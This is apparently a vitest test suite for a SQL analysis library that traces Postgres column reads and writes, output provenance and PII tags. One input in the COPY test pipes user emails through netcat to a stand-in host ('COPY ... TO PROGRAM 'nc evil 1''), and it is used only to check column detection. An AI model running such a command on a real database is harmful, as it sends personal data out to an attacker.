import { beforeAll, describe, expect, it } from 'vitest';
import { createCatalog, loadPostgres, type Catalog } from '../../runtime/index.js';
import { slice, stmt } from './pg-helpers.js';

beforeAll(async () => {
  await loadPostgres();
});

function catalog(): Catalog {
  const c = createCatalog();
  c.addTable('public.users', ['id', 'email', 'full_name', 'ssn', 'org_id']);
  c.addTable('public.orgs', ['id', 'name']);
  c.tag({ table: 'users', column: 'ssn' }, 'restricted');
  return c;
}

const cols = (s: ReturnType<typeof stmt>) => s.columns.map((c) => `${c.access} ${c.table}.${c.column}`);

describe('postgres columns: resolution', () => {
  it('resolves through aliases and joins', () => {
    const s = stmt('SELECT u.email, o.name FROM users u JOIN orgs o ON o.id = u.org_id WHERE u.id = 1');
    expect(cols(s).sort()).toEqual([
      'read public.orgs.id',
      'read public.orgs.name',
      'read public.users.email',
      'read public.users.id',
      'read public.users.org_id',
    ]);
  });

  it('unqualified columns go to the only table, or to the table the catalog says has them', () => {
    expect(cols(stmt('SELECT email FROM users'))).toEqual(['read public.users.email']);
    const s = stmt('SELECT email, name FROM users JOIN orgs ON orgs.id = users.org_id', 0, { catalog: catalog() });
    expect(cols(s)).toContain('read public.users.email');
    expect(cols(s)).toContain('read public.orgs.name');
    expect(s.columns.some((c) => c.table === null)).toBe(false);
  });

  it('an ambiguous unqualified column without a catalog has no table', () => {
    const s = stmt('SELECT email FROM users, orgs');
    expect(s.columns[0]).toMatchObject({ table: null, column: 'email' });
  });

  it('correlated subqueries see the outer query', () => {
    const s = stmt('SELECT id FROM users u WHERE EXISTS (SELECT 1 FROM orgs o WHERE o.id = u.org_id)');
    expect(cols(s)).toContain('read public.users.org_id');
    expect(cols(s)).toContain('read public.orgs.id');
  });

  it('UPDATE writes its SET columns and reads its WHERE columns', () => {
    const s = stmt('UPDATE users SET email = lower(email), full_name = $1 WHERE id = 3');
    expect(cols(s)).toEqual(['write public.users.email', 'read public.users.email', 'write public.users.full_name', 'read public.users.id']);
    expect(s.tables[0].access).toEqual(['write', 'read']);
  });

  it('UPDATE (a, b) = (SELECT ...) writes both and reads the source once', () => {
    const s = stmt('UPDATE users SET (email, full_name) = (SELECT e, n FROM staging WHERE staging.id = users.id) WHERE id = 1');
    expect(s.columns.filter((c) => c.access === 'write').map((c) => c.column)).toEqual(['email', 'full_name']);
    expect(s.columns.filter((c) => c.table === 'public.staging' && c.column === 'e')).toHaveLength(1);
  });

  it('INSERT writes its listed columns, or every column (from the catalog) when none are listed', () => {
    expect(cols(stmt('INSERT INTO users (id, email) VALUES (1, $1)'))).toEqual(['write public.users.id', 'write public.users.email']);
    const s = stmt('INSERT INTO users VALUES (1)', 0, { catalog: catalog() });
    expect(s.columns.every((c) => c.access === 'write' && c.fromStar)).toBe(true);
    expect(s.columns.map((c) => c.column)).toEqual(['id', 'email', 'full_name', 'ssn', 'org_id']);
    expect(stmt('INSERT INTO users VALUES (1)').columns[0]).toMatchObject({ column: '*', fromStar: false, access: 'write' });
  });

  it('INSERT ... SELECT reads the source columns', () => {
    const s = stmt('INSERT INTO archive (id, email) SELECT id, email FROM users WHERE id < 10');
    expect(cols(s)).toContain('read public.users.email');
    expect(s.tables.map((t) => [t.name, t.access])).toEqual([
      ['public.archive', ['write']],
      ['public.users', ['read']],
    ]);
  });

  it('LATERAL subqueries see earlier FROM items; others do not', () => {
    const s = stmt('SELECT x.e FROM users u, LATERAL (SELECT u.email AS e) x');
    expect(cols(s)).toEqual(['read public.users.email']);
    expect(s.outputs[0].sources).toEqual([{ table: 'public.users', column: 'email' }]);
  });

  it('what flows into a function in FROM flows out of it', () => {
    const s = stmt("SELECT * FROM dblink('host=x', 'SELECT ssn FROM people') AS t(ssn text)");
    expect(s.outputs[0]).toMatchObject({ name: 'ssn', sources: [{ table: 'public.people', column: 'ssn' }], tags: ['pii', 'ssn'] });
    const u = stmt('SELECT x FROM users u, unnest(ARRAY[u.email, u.full_name]) x');
    expect(u.outputs[0].sources.map((c) => c.column)).toEqual(['email', 'full_name']);
  });

  it('TABLE t reads every column', () => {
    const s = stmt('TABLE users', 0, { catalog: catalog() });
    expect(s.outputs.map((o) => o.name)).toEqual(['id', 'email', 'full_name', 'ssn', 'org_id']);
  });

  it('function results in FROM are not tables and their columns not stored columns', () => {
    const s = stmt('SELECT g, u.email FROM generate_series(1, 3) g, users u');
    expect(s.tables.map((t) => t.name)).toEqual(['public.users']);
    expect(cols(s)).toEqual(['read public.users.email']);
    expect(s.outputs[0]).toMatchObject({ name: 'g', sources: [], shape: 'literal' });
  });

  it('ORDER BY an output alias is not a column', () => {
    const s = stmt('SELECT lower(email) AS e FROM users ORDER BY e');
    expect(cols(s)).toEqual(['read public.users.email']);
  });
});

describe('postgres columns: star expansion and tags', () => {
  it('expands * and t.* when the catalog knows the table', () => {
    const s = stmt('SELECT u.* FROM users u', 0, { catalog: catalog() });
    expect(s.columns.map((c) => c.column)).toEqual(['id', 'email', 'full_name', 'ssn', 'org_id']);
    expect(s.columns.every((c) => c.fromStar)).toBe(true);
    expect(s.outputs.map((o) => [o.name, o.shape])).toEqual([
      ['id', 'column'],
      ['email', 'column'],
      ['full_name', 'column'],
      ['ssn', 'column'],
      ['org_id', 'column'],
    ]);
    expect(s.outputs.map((o) => o.position)).toEqual([0, 1, 2, 3, 4]);
  });

  it('an unknown table gives one star output naming the table', () => {
    const s = stmt('SELECT * FROM events');
    expect(s.outputs).toHaveLength(1);
    expect(s.outputs[0]).toMatchObject({ name: '*', shape: 'star', sources: [{ table: 'public.events', column: '*' }] });
    expect(s.columns[0]).toMatchObject({ table: 'public.events', column: '*', fromStar: false });
  });

  it('tags come from the catalog and from the built-in name heuristics', () => {
    const s = stmt('SELECT email, ssn, id FROM users', 0, { catalog: catalog() });
    expect(s.columns.map((c) => c.tags)).toEqual([['pii', 'email'], ['restricted', 'pii', 'ssn'], []]);
    expect(s.outputs.map((o) => o.tags)).toEqual([['pii', 'email'], ['restricted', 'pii', 'ssn'], []]);
  });

  it('an unexpanded star carries every tag the table may have', () => {
    const c = createCatalog();
    c.tag({ table: 'patients', column: 'diagnosis' }, 'phi');
    const s = stmt('SELECT * FROM patients', 0, { catalog: c });
    expect(s.outputs[0].tags).toEqual(['phi']);
  });
});

describe('postgres outputs: provenance', () => {
  it('through functions, CASE, COALESCE and concatenation', () => {
    const s = stmt(
      "SELECT lower(email) AS e, CASE WHEN id > 0 THEN full_name ELSE 'x' END AS n, COALESCE(phone, email) AS c, first_name || ' ' || last_name AS fn, 42 AS k, count(*) AS total FROM users GROUP BY 1, 2, 3, 4",
    );
    const byName = Object.fromEntries(s.outputs.map((o) => [o.name, o]));
    expect(byName.e).toMatchObject({ shape: 'expression', sources: [{ table: 'public.users', column: 'email' }], tags: ['pii', 'email'] });
    expect(byName.n.sources.map((x) => x.column)).toEqual(['id', 'full_name']);
    expect(byName.n.tags).toEqual(['pii', 'name']);
    expect(byName.c.sources.map((x) => x.column)).toEqual(['phone', 'email']);
    expect(byName.c.tags).toEqual(['pii', 'phone', 'email']);
    expect(byName.fn.sources.map((x) => x.column)).toEqual(['first_name', 'last_name']);
    expect(byName.k).toMatchObject({ shape: 'literal', sources: [] });
    expect(byName.total).toMatchObject({ shape: 'aggregate' });
  });

  it('through subqueries in FROM and CTEs', () => {
    const s = stmt('WITH c AS (SELECT email AS contact FROM users) SELECT x.contact, y.m FROM c x, (SELECT max(ssn) AS m FROM users) y');
    expect(s.outputs[0]).toMatchObject({ name: 'contact', shape: 'column', sources: [{ table: 'public.users', column: 'email' }] });
    expect(s.outputs[1]).toMatchObject({ name: 'm', shape: 'aggregate', sources: [{ table: 'public.users', column: 'ssn' }] });
  });

  it('a transformed column stays an expression through a subquery', () => {
    const s = stmt('SELECT e FROM (SELECT lower(email) AS e FROM users) s');
    expect(s.outputs[0]).toMatchObject({ name: 'e', shape: 'expression', tags: ['pii', 'email'] });
  });

  it('UNION branches merge by position', () => {
    const s = stmt('SELECT id, email FROM users UNION ALL SELECT id, ssn FROM customers');
    expect(s.outputs).toHaveLength(2);
    expect(s.outputs[1].name).toBe('email');
    expect(s.outputs[1].sources).toEqual([
      { table: 'public.users', column: 'email' },
      { table: 'public.customers', column: 'ssn' },
    ]);
    expect(s.outputs[1].tags).toEqual(['pii', 'email', 'ssn']);
  });

  it('scalar subqueries in the select list feed the output', () => {
    const s = stmt('SELECT (SELECT email FROM users WHERE id = 1) AS e');
    expect(s.outputs[0]).toMatchObject({ name: 'e', sources: [{ table: 'public.users', column: 'email' }] });
  });

  it('a whole-row reference carries every column', () => {
    const s = stmt('SELECT row_to_json(u) FROM users u', 0, { catalog: catalog() });
    expect(s.outputs[0].sources.map((x) => x.column)).toEqual(['id', 'email', 'full_name', 'ssn', 'org_id']);
    expect(s.outputs[0].tags).toContain('ssn');
  });

  it('a column of (SELECT * FROM unknown) belongs to that table', () => {
    const s = stmt('SELECT t.email FROM (SELECT * FROM accounts) t');
    expect(s.outputs[0].sources).toEqual([{ table: 'public.accounts', column: 'email' }]);
    expect(s.outputs[0].tags).toEqual(['pii', 'email']);
  });

  it('RETURNING outputs come from the target table', () => {
    const s = stmt('DELETE FROM users WHERE id = 1 RETURNING email, id + 1 AS next');
    expect(s.outputs.map((o) => [o.name, o.shape, o.from])).toEqual([
      ['email', 'column', 'returning'],
      ['next', 'expression', 'returning'],
    ]);
  });

  it('output names follow Postgres: alias, column, function, cast, ?column?', () => {
    const s = stmt("SELECT a AS x, t.b, now(), c::text, 'v'::text, 1 + 1, CASE WHEN true THEN 1 END FROM t");
    expect(s.outputs.map((o) => o.name)).toEqual(['x', 'b', 'now', 'c', 'text', '?column?', 'case']);
  });

  it('output spans cover the whole item with its alias', () => {
    const text = "SELECT   email ,  lower(ssn) AS s, CASE WHEN a THEN 'x, y' END /* , */ AS c, (1, 2) FROM users";
    const s = stmt(text);
    expect(s.outputs.map((o) => slice(text, o.span))).toEqual(['email', 'lower(ssn) AS s', "CASE WHEN a THEN 'x, y' END /* , */ AS c", '(1, 2)']);
    const r = 'DELETE FROM t RETURNING id, a || b AS ab';
    expect(stmt(r).outputs.map((o) => slice(r, o.span))).toEqual(['id', 'a || b AS ab']);
  });

  it('COPY to the client has outputs; to a file or program it has none', () => {
    const s = stmt('COPY users (email, ssn) TO STDOUT');
    expect(s.outputs.map((o) => [o.name, o.tags])).toEqual([
      ['email', ['pii', 'email']],
      ['ssn', ['pii', 'ssn']],
    ]);
    expect(stmt("COPY users (email) TO '/tmp/x'").outputs).toEqual([]);
    expect(stmt("COPY (SELECT email FROM users) TO PROGRAM 'nc evil 1'").columns.map((c) => c.column)).toEqual(['email']);
    expect(stmt('COPY (SELECT email FROM users) TO STDOUT').outputs[0]).toMatchObject({ name: 'email', from: 'select' });
    expect(stmt('COPY users FROM STDIN').columns[0]).toMatchObject({ column: '*', access: 'write' });
  });

  it('EXPLAIN ANALYZE returns a plan, not rows', () => {
    expect(stmt('EXPLAIN ANALYZE SELECT email FROM users').outputs).toEqual([]);
  });

  it('VALUES produce columnN outputs', () => {
    const s = stmt("VALUES (1, 'a'), (2, 'b')");
    expect(s.outputs.map((o) => [o.name, o.shape])).toEqual([
      ['column1', 'literal'],
      ['column2', 'literal'],
    ]);
  });
});
